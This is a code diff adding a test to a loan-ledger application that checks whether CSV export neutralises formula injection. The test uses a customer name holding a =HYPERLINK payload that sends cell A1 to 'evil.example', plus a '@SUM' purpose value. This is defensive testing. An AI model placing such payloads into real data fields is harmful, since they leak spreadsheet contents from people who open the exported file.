@@ -54,3 +54,28 @@ it('exports the filtered loan ledger and the journal of one account', async () =
     'NOT_AUTHENTICATED',
   );
 });
+
+it('writes a customer named =HYPERLINK(...) as text in CSV, and keeps amounts numeric', async () => {
+  t = await demoApp('admin', 'officer', 'manager');
+  t.travel('2026-03-02T02:00:00Z');
+  const productId = await createProduct(t);
+  const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"查看")';
+  const customerId = await registerCustomer(t, 'officer', { name: hostile });
+  const app = await t.call(
+    'applications.submit',
+    { customerId, productId, amountFen: 5_000_00, periods: 6, purpose: '@SUM(1+1)' },
+    'officer',
+  );
+  const { loan } = await t.call('loans.get', { loanId: app.loanId! }, 'manager');
+  await t.call('loans.disburse', { loanId: loan.id, expectedVersion: loan.version, channel: 'bank' }, 'manager');
+  const csv = await t.call(
+    'ledger.export',
+    { kind: 'loans', range: { from: '2026-03-01', to: '2026-03-31' }, format: 'csv', language: 'en' },
+    'officer',
+  );
+  const [, row] = Buffer.from(csv.base64, 'base64').toString('utf8').trim().split('\r\n');
+  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""查看"")"`);
+  expect(row).not.toMatch(/(^|,)"?=/);
+  // The principal is a number, written as one.
+  expect(row).toContain(',5000.00,');
+});
